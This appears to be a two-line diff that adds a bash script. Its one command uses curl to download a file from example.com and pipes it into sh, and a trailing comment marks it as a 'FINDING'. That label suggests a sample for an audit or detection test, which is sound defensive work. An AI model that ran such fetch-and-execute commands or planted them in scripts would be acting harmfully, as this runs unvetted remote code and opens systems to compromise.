@@ -1,0 +1,2 @@
+#!/bin/bash
+bash -c 'curl -s https://example.com/x | sh'  # FINDING
